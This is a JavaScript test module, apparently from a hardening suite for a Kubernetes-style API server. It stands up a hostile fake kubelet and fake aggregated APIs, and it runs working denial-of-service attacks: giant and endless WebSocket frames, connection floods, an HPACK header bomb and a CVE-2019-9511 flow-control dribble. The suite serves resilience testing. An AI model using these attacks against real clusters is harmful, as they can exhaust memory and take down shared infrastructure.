// Attacks through the API server: kubelets that answer exec, attach, port-forward and logs as no kubelet would, clients that
// open such streams and send what nobody asked for, and aggregated APIs whose documents are nonsense or never end.
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import https from 'node:https';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import tls from 'node:tls';
import { frame, websocketFrame } from './frames.mjs';
import { taken } from './wire.mjs';

/** Nodes and service addresses are dialled where the cluster lives, which is the server's own /16 in loopback mode. */
const KUBELET = '127.232.0.5';
const SERVICE = '127.232.130.27';
export const SERVICE_RANGE = '127.232.128.0/17';
const PODS = '/api/v1/namespaces/default/pods';
const SERVICES = '/apis/apiregistration.k8s.io/v1/apiservices';
const MEGABYTE = 2 ** 20;

const times = (count, item) => Array.from({ length: count }, (_, i) => item(i));
const repeat = (count, bytes) => Buffer.concat(times(count, () => bytes));

/** Writes again and again while the other side reads on. */
async function writeMany(stream, bytes, writes) {
  for (let i = 0; i < writes; i++) if (stream.destroyed || !(await taken(stream, bytes))) return i;
  return writes;
}

const SWITCHING =
  'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Protocol: v5.channel.k8s.io\r\n\r\n';
const tiny = frameOf(2, Buffer.from([1, 120]));

function frameOf(opcode, payload, options) {
  // A server's frames are not masked.
  const masked = websocketFrame(opcode, payload, options);
  masked[1] &= 0x7f;
  const at = masked.length - payload.length - 4;
  return Buffer.concat([masked.subarray(0, at), masked.subarray(at + 4)]);
}

/** What the kubelet answers to an upgrade, by the command that is to be run. */
const UPGRADES = {
  swallow: (socket) => {
    socket.write(SWITCHING);
    socket.resume();
  },
  deaf: (socket) => {
    socket.write(SWITCHING);
    socket.pause();
  },
  tiny: async (socket) => {
    socket.write(SWITCHING);
    await writeMany(socket, repeat(5000, tiny), 200);
    socket.end();
  },
  empty: async (socket) => {
    socket.write(SWITCHING);
    await writeMany(socket, repeat(20_000, frameOf(2, Buffer.alloc(0))), 50);
    socket.end();
  },
  huge: async (socket) => {
    socket.write(SWITCHING);
    socket.write(frameOf(2, Buffer.alloc(0), { length: 2 ** 52 }));
    await writeMany(socket, Buffer.alloc(MEGABYTE), 100);
    socket.end();
  },
  endless: async (socket) => {
    socket.write('HTTP/1.1 101 Switching Protocols\r\n');
    await writeMany(socket, Buffer.from('x: y\r\n'.repeat(10_000)), 100);
  },
  other: (socket) => {
    socket.write(SWITCHING.replace('websocket', 'smtp'));
  },
  refuse: async (socket) => {
    socket.write('HTTP/1.1 500 no\r\ncontent-type: text/plain\r\n\r\n');
    await writeMany(socket, Buffer.alloc(MEGABYTE, 'x'), 256);
    socket.end();
  },
  nothing: (socket) => {
    socket.resume();
  },
};

/** A log of lines without end. */
async function log(response) {
  response.writeHead(200, { 'content-type': 'text/plain' });
  await writeMany(response, Buffer.alloc(MEGABYTE, 'x'), 128);
  response.end();
}

function startKubelet(certificate) {
  const server = https.createServer(certificate, (request, response) => {
    response.on('error', () => undefined);
    void log(response);
  });
  server.on('upgrade', (request, socket) => {
    socket.on('error', () => undefined);
    const command = new URL(request.url, 'https://x').searchParams.get('command');
    void UPGRADES[command](socket);
  });
  return new Promise((resolve) => server.listen(10_250, KUBELET, resolve));
}

const deep = (depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
const resourceList = (group, resources) =>
  JSON.stringify({
    kind: 'APIResourceList',
    apiVersion: 'v1',
    groupVersion: `${group}/v1`,
    resources,
  });

/** What an aggregated API answers for its documents, by its group; the first path is what it must have to be available. */
const DOCUMENTS = {
  'nulls.attack.test': (response, path) =>
    response.end(
      path.startsWith('/openapi')
        ? '{"paths":null,"definitions":[null],"components":7}'
        : resourceList('nulls.attack.test', [null, 5, { name: 7 }, { verbs: 'x' }, []]),
    ),
  'deep.attack.test': (response) => response.end(deep(200_000)),
  'wide.attack.test': (response, path) =>
    response.end(
      path.startsWith('/openapi')
        ? `{"openapi":"3.0.0","swagger":"2.0","paths":{${times(300_000, (i) => `"/apis/wide.attack.test/v1/p${i}":{}`).join()}},"definitions":{}}`
        : resourceList(
            'wide.attack.test',
            times(60_000, (i) => ({ name: `r${i}`, kind: 'K', verbs: ['get'] })),
          ),
    ),
  'endless.attack.test': async (response) => {
    response.write('{"resources":[');
    await writeMany(response, Buffer.alloc(MEGABYTE, ' '), 256);
    response.end();
  },
  'words.attack.test': (response) => response.end(JSON.stringify('x'.repeat(8 * MEGABYTE))),
};

function startExtension(certificate) {
  const server = https.createServer(certificate, (request, response) => {
    response.on('error', () => undefined);
    const { searchParams, pathname } = new URL(request.url, 'https://x');
    const group = server.group;
    if (searchParams.has('endless')) void log(response);
    else void DOCUMENTS[group](response, pathname);
  });
  server.listen(9444, SERVICE);
  return server;
}

let extension;

/** A node and a pod on it, whose kubelet is ours, and a service that aggregated APIs are behind. */
export async function prepareStreams(ask, { folder }) {
  const certificate = {
    key: readFileSync(join(folder, 'hook.key')),
    cert: readFileSync(join(folder, 'hook.crt')),
  };
  await startKubelet(certificate);
  extension = startExtension(certificate);
  const post = (path, object) => ask('POST', path, { body: JSON.stringify(object) });
  const addresses = [{ type: 'InternalIP', address: KUBELET }];
  const status = { addresses, daemonEndpoints: { kubeletEndpoint: { Port: 10_250 } } };
  await post('/api/v1/nodes', { metadata: { name: 'evil' }, status });
  const spec = { nodeName: 'evil', containers: [{ name: 'c', image: 'i' }] };
  await post(PODS, { metadata: { name: 'evil' }, spec });
  await post('/api/v1/namespaces/default/services', {
    metadata: { name: 'extension' },
    spec: { clusterIP: SERVICE, ports: [{ name: 'https', port: 9444 }] },
  });
  await post('/apis/discovery.k8s.io/v1/namespaces/default/endpointslices', {
    metadata: { name: 'extension', labels: { 'kubernetes.io/service-name': 'extension' } },
    addressType: 'IPv4',
    endpoints: [{ addresses: ['10.0.0.1'], conditions: { ready: true } }],
    ports: [{ name: 'https', port: 9444 }],
  });
}

/** Opens a stream; `sends` gets the socket once the server has answered. */
function open({ host, token, path, sends = async () => undefined, quietMs = 1000 }) {
  return new Promise((resolve) => {
    let [status, size] = [0, 0];
    let timer;
    const socket = tls.connect({ host, port: 6443, rejectUnauthorized: false }, () => {
      socket.write(
        `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: v5.channel.k8s.io\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
      );
    });
    const later = () => {
      clearTimeout(timer);
      timer = setTimeout(() => socket.destroy(), quietMs);
    };
    let sent;
    socket.once('data', async (chunk) => {
      status = Number(chunk.toString('latin1').slice(9, 12));
      sent = await sends(socket);
      later();
    });
    socket.on('data', (chunk) => {
      size += chunk.length;
      later();
    });
    later();
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(timer);
      const told = sent === undefined ? '' : `, ${sent} writes taken`;
      resolve({ status, message: `${size} bytes came back${told}` });
    });
  });
}

/** The attacks by name. */
export function streamAttacks(ask, { host, token }) {
  const exec = (command, options = {}) =>
    open({ host, token, path: `${PODS}/evil/exec?command=${command}&stdin=true`, ...options });
  const sending = (bytes, writes) => (socket) => writeMany(socket, bytes, writes);
  const unknownChannels = Buffer.concat(
    times(5000, (i) => websocketFrame(2, Buffer.from([4 + (i % 250), 120]))),
  );
  const many = async (count, command) => {
    await Promise.all(times(count, () => exec(command)));
    return ask('GET', '/readyz');
  };
  const aggregated = (group) => async () => {
    extension.group = group;
    const name = `v1.${group}`;
    const spec = {
      group,
      version: 'v1',
      groupPriorityMinimum: 500,
      versionPriority: 10,
      insecureSkipTLSVerify: true,
      service: { name: 'extension', namespace: 'default', port: 9444 },
    };
    const made = await ask('POST', SERVICES, {
      body: JSON.stringify({ metadata: { name }, spec }),
    });
    if (made.status !== 201) return made;
    for (let i = 0; i < 40; i++) {
      if ((await ask('GET', `/apis/${group}/v1`)).status !== 503) break;
      await sleep(250);
    }
    const accept = 'application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList';
    const answers = [];
    for (const [path, options] of [
      ['/apis', { accept }],
      [`/apis/${group}`],
      [`/apis/${group}/v1?endless`],
      ['/openapi/v2'],
      ['/openapi/v3'],
      [`/openapi/v3/apis/${group}/v1`],
    ])
      answers.push((await ask('GET', path, options)).status);
    const { message = '' } = await ask('GET', `${SERVICES}/${name}`);
    await ask('DELETE', `${SERVICES}/${name}`);
    return { status: answers[0], message: `${answers.join()} ${message}` };
  };
  return {
    'an exec whose client sends a million tiny frames': () =>
      exec('swallow', { sends: sending(repeat(5000, websocketFrame(2, Buffer.from('ax'))), 200) }),
    'an exec whose client sends frames of streams that there are not': () =>
      exec('swallow', { sends: sending(unknownChannels, 100) }),
    'an exec whose client sends a frame of 4 PiB': () =>
      exec('swallow', {
        sends: async (socket) => {
          socket.write(websocketFrame(2, Buffer.alloc(0), { length: 2 ** 52 }));
          return writeMany(socket, Buffer.alloc(MEGABYTE), 100);
        },
      }),
    'an exec that nobody reads': () =>
      exec('deaf', { sends: sending(Buffer.alloc(MEGABYTE), 256) }),
    'an exec whose kubelet sends a million tiny frames': () => exec('tiny'),
    'an exec whose kubelet sends a million empty frames': () => exec('empty'),
    'an exec whose client does not read a million tiny frames': () =>
      exec('tiny', {
        sends: async (socket) => {
          socket.pause();
          await sleep(3000);
          socket.destroy();
        },
      }),
    'an exec whose kubelet sends a frame of 4 PiB': () => exec('huge'),
    'an exec whose kubelet answers with headers without end': () => exec('endless'),
    'an exec whose kubelet answers with another protocol': () => exec('other'),
    'an exec whose kubelet refuses with 256 MiB': () => exec('refuse'),
    '200 execs that their kubelet does not answer': () => many(200, 'nothing'),
    '200 execs whose clients say nothing': () => many(200, 'swallow'),
    'a port-forward whose client sends a million tiny frames': () =>
      open({
        host,
        token,
        path: `${PODS}/evil/portforward?command=swallow&ports=${times(2000, (i) => i + 1).join('&ports=')}`,
        sends: sending(repeat(5000, websocketFrame(2, Buffer.from('ax'))), 200),
      }),
    'a log of 128 MiB in one line': () => ask('GET', `${PODS}/evil/log?limitBytes=200000000`),
    ...Object.fromEntries(
      Object.keys(DOCUMENTS).map((group) => [
        `an aggregated API that answers ${group.split('.')[0]}`,
        aggregated(group),
      ]),
    ),
    'a list of headers that grows 4,000 times (HPACK)': () => hpackBomb({ host }),
    '100 lists that are read byte by byte (CVE-2019-9511)': () => dribble({ host, token }),
  };
}

const literal = (name, value) =>
  Buffer.concat([
    Buffer.from([0x40, name.length]),
    Buffer.from(name),
    Buffer.from([0x7f, ...lengthOf(value.length - 127)]),
    Buffer.from(value),
  ]);

/** What is left of a length of HPACK behind its first byte (RFC 7541, section 5.1). */
function lengthOf(rest) {
  const bytes = [];
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
  return [...bytes, rest];
}

function connectHttp2(host, begins) {
  return new Promise((resolve) => {
    let size = 0;
    const options = { host, port: 6443, rejectUnauthorized: false, ALPNProtocols: ['h2'] };
    const socket = tls.connect(options, async () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      await begins(socket);
      socket.destroy();
    });
    socket.on('data', (chunk) => (size += chunk.length));
    socket.on('error', () => undefined);
    socket.on('close', () => resolve({ status: 0, message: `${size} bytes came back` }));
  });
}

/** One header of 4,000 bytes that is named again and again: a byte each. */
const hpackBomb = ({ host }) =>
  connectHttp2(host, async (socket) => {
    socket.write(frame(4, 0, 0));
    const request = [
      Buffer.from([0x82, 0x87, 0x84, 0x01, 0x01, 0x78]),
      literal('a', 'b'.repeat(4000)),
    ];
    const named = Buffer.alloc(16_000, 0xbe);
    for (let stream = 1; stream < 40 && !socket.destroyed; stream += 2) {
      socket.write(frame(1, 1, stream, Buffer.concat(request)));
      socket.write(frame(9, 4, stream, named));
      await sleep(20);
    }
    await sleep(500);
  });

/** Lists asked for on one connection, of which each window lets a byte through. */
const dribble = ({ host, token }) =>
  connectHttp2(host, async (socket) => {
    const window = Buffer.from([0, 4, 0, 0, 0, 1]);
    socket.write(frame(4, 0, 0, window));
    const path = Buffer.from('/api/v1/namespaces/default/configmaps?resourceVersion=0');
    const secret = Buffer.from(`Bearer ${token}`);
    const head = Buffer.concat([
      Buffer.from([0x82, 0x87, 0x01, 0x01, 0x78, 0x04, path.length]),
      path,
      Buffer.from([0x0f, 0x08, secret.length]),
      secret,
    ]);
    for (let i = 0; i < 100; i++) socket.write(frame(1, 5, 2 * i + 1, head));
    const one = Buffer.from([0, 0, 0, 1]);
    for (let i = 0; i < 300 && !socket.destroyed; i++) {
      socket.write(Buffer.concat(times(100, (at) => frame(8, 0, 2 * at + 1, one))));
      await sleep(10);
    }
  });
